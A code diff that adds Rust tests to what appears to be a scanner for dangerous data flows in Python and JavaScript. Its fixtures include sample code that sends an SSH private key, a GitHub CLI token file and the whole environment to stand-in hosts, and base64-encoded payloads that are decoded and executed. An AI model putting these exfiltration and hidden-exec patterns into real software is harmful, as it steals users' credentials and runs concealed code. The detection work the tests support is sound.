@@ -1006,3 +1006,65 @@ fn large_modules_find_the_flows_of_their_regions_as_a_small_one_does() {
 fn regions_min() -> usize {
     engine::REGION_MIN_BYTES
 }
+
+#[test]
+fn class_field_defaults_are_what_methods_read_as_self_attributes() {
+    // A dataclass factory reading a key, sent by a method.
+    let text = "import os, requests\nfrom dataclasses import dataclass, field\ndef load(p):\n    return open(os.path.expanduser(p)).read()\n@dataclass\nclass Sync:\n    url: str = 'https://s.example.invalid/k'\n    key: str = field(default_factory=lambda: load('~/.ssh/id_rsa'))\n    def push(self):\n        requests.post(self.url, data=self.key)\n";
+    let found = py(text);
+    assert!(
+        found.iter().any(|f| f.0 == FlowKind::CredentialToNetwork),
+        "{found:?}"
+    );
+    // attrs: a factory named by reference, the instance serialised whole.
+    let text = "import os, attr, requests\n@attr.s\nclass Probe:\n    env = attr.ib(default=attr.Factory(lambda: dict(os.environ)))\n    def __attrs_post_init__(self):\n        requests.post('https://p.example.invalid', json=attr.asdict(self))\nProbe()\n";
+    let found = py(text);
+    assert!(
+        found.iter().any(|f| f.0 == FlowKind::EnvironmentToNetwork),
+        "{found:?}"
+    );
+    // pydantic: a model built and dumped at the call.
+    let text = "import os, httpx\nfrom pydantic import BaseModel, Field\nclass Snap(BaseModel):\n    env: dict = Field(default_factory=lambda: dict(os.environ))\nhttpx.post('https://p.example.invalid', json=Snap().model_dump())\n";
+    assert!(py(text)
+        .iter()
+        .any(|f| f.0 == FlowKind::EnvironmentToNetwork));
+    // A class attribute decoded from a constant, run by a method.
+    let text = "import base64\nclass Step:\n    blob = base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik=')\n    def run(self):\n        exec(self.blob)\n";
+    assert!(py(text).iter().any(|f| f.0 == FlowKind::DecodedToExec));
+}
+
+#[test]
+fn class_fields_without_a_secret_or_a_whole_instance_send_stay_quiet() {
+    // Settings from the environment by name, a user-given body: nothing the class holds is harvested.
+    let text = "import os, requests\nfrom dataclasses import dataclass, field\n@dataclass\nclass Client:\n    base: str = field(default_factory=lambda: os.environ.get('NOTES_URL', 'https://n.example.org'))\n    timeout: float = 5.0\n    def create(self, body):\n        return requests.post(self.base + '/notes', json=body, timeout=self.timeout)\n";
+    assert!(py(text).is_empty(), "{:?}", py(text));
+    // The host name as a field, used locally only; the env dump field of one class is not every attribute.
+    let text = "import os, socket, attr, requests\n@attr.s\nclass Info:\n    host = attr.ib(default=attr.Factory(socket.gethostname))\n    env = attr.ib(default=attr.Factory(lambda: dict(os.environ)))\n    def label(self):\n        return self.host.upper()\n    def ping(self):\n        requests.get(self.url)\n";
+    assert!(py(text).is_empty(), "{:?}", py(text));
+}
+
+#[test]
+fn a_credential_path_joined_from_pieces_is_a_credential_path() {
+    let text = "import os, requests\nP = os.path.join(os.path.expanduser('~'), '.config', 'gh', 'hosts.yml')\nrequests.post('https://h.example.invalid', data=open(P).read())\n";
+    assert!(py(text)
+        .iter()
+        .any(|f| f.0 == FlowKind::CredentialToNetwork));
+    let text = "import os, requests\nP = os.path.join(os.path.expanduser('~'), '.config', 'tool', 'settings.yml')\nrequests.post('https://h.example.invalid', data=open(P).read())\n";
+    assert!(py(text).is_empty());
+}
+
+#[test]
+fn a_base64_data_url_import_runs_the_decoded_module() {
+    let text = "const b = 'aW1wb3J0KCdjaGlsZF9wcm9jZXNzJykudGhlbihjID0+IGMuZXhlY1N5bmMoJ2lkJykp';\nawait import(`data:text/javascript;base64,${b}`);\n";
+    assert!(js(text).iter().any(|f| f.0 == FlowKind::DecodedToExec));
+    let text = "const b = 'aW1wb3J0KCdjaGlsZF9wcm9jZXNzJykudGhlbihjID0+IGMuZXhlY1N5bmMoJ2lkJykp';\nawait import('data:text/javascript;base64,' + b);\n";
+    assert!(js(text).iter().any(|f| f.0 == FlowKind::DecodedToExec));
+    // A constant module that only exports a value: a capability probe.
+    let text = "const b = 'ZXhwb3J0IGRlZmF1bHQgNDI7';\nconst m = await import(`data:text/javascript;base64,${b}`);\n";
+    assert!(js(text).is_empty(), "{:?}", js(text));
+    // Code built at run time and a JSON data: URL are not a shipped payload.
+    let text = "const load = async (t) => (await import(`data:text/javascript;charset=utf-8;base64,${Buffer.from(t).toString('base64')}`)).default;\n";
+    assert!(js(text).is_empty(), "{:?}", js(text));
+    let text = "const m = await import('data:text/javascript;base64,' + btoa(source));\nconst j = await import(`data:application/json,${JSON.stringify(o)}`, { with: { type: 'json' } });\n";
+    assert!(js(text).is_empty(), "{:?}", js(text));
+}
